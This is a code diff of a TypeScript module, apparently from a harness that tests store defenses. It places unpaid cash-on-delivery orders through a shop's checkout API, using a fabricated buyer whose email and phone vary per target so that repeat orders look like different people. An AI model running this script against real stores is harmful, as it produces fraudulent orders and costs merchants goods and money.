@@ -1,32 +1,35 @@
 import { createCart } from './api-attacks.ts'
-import { ATTACKER, type Taken, type Target } from './attack.ts'
+import type { Taken, Target } from './attack.ts'
 
-const buyer = {
-  ...{ intent: 'pay', paymentMethod: 'cod', email: 'attacker@example.com', phone: '9876543210' },
+/** One buyer for each address. */
+const buyerAt = (address: string) => ({
+  ...{ email: `attacker-${address}@example.com`, phone: `98765432${address.slice(-2)}` },
+  ...{ intent: 'pay', paymentMethod: 'cod' },
   ...{ firstName: 'Asha', lastName: 'Rao', address1: '1 Hill Road', city: 'Mumbai' },
   ...{ province: 'Maharashtra', zip: '400050' },
-}
+})
 
 /** Orders a game that nobody will pay for. */
 export async function fillCheckout(target: Target): Promise<Taken> {
   const id = await createCart(target)
+  if (id === null) return 'refused'
   const [, token = '', key = ''] = /Cart\/(\w+)\?key=(\w+)/.exec(id) ?? []
   const path = `/local-store/checkouts/${token}?key=${key}`
   const send = (expectedTotal: string) =>
     target.ask({
       path,
-      address: ATTACKER,
+      address: target.address,
       headers: {
         'content-type': 'application/x-www-form-urlencoded',
         'accept-encoding': 'identity',
       },
-      body: new URLSearchParams({ ...buyer, expectedTotal }).toString(),
+      body: new URLSearchParams({ ...buyerAt(target.address), expectedTotal }).toString(),
     })
   // With an address the total has delivery: the page asks to look again.
   const asked = await send('0')
   const page = await target.ask({
     path: String(asked.headers.location ?? path),
-    address: ATTACKER,
+    address: target.address,
     headers: { 'accept-encoding': 'identity' },
   })
   const total = /name="expectedTotal" value="([^"]*)"/.exec(page.body.toString())?.[1] ?? ''
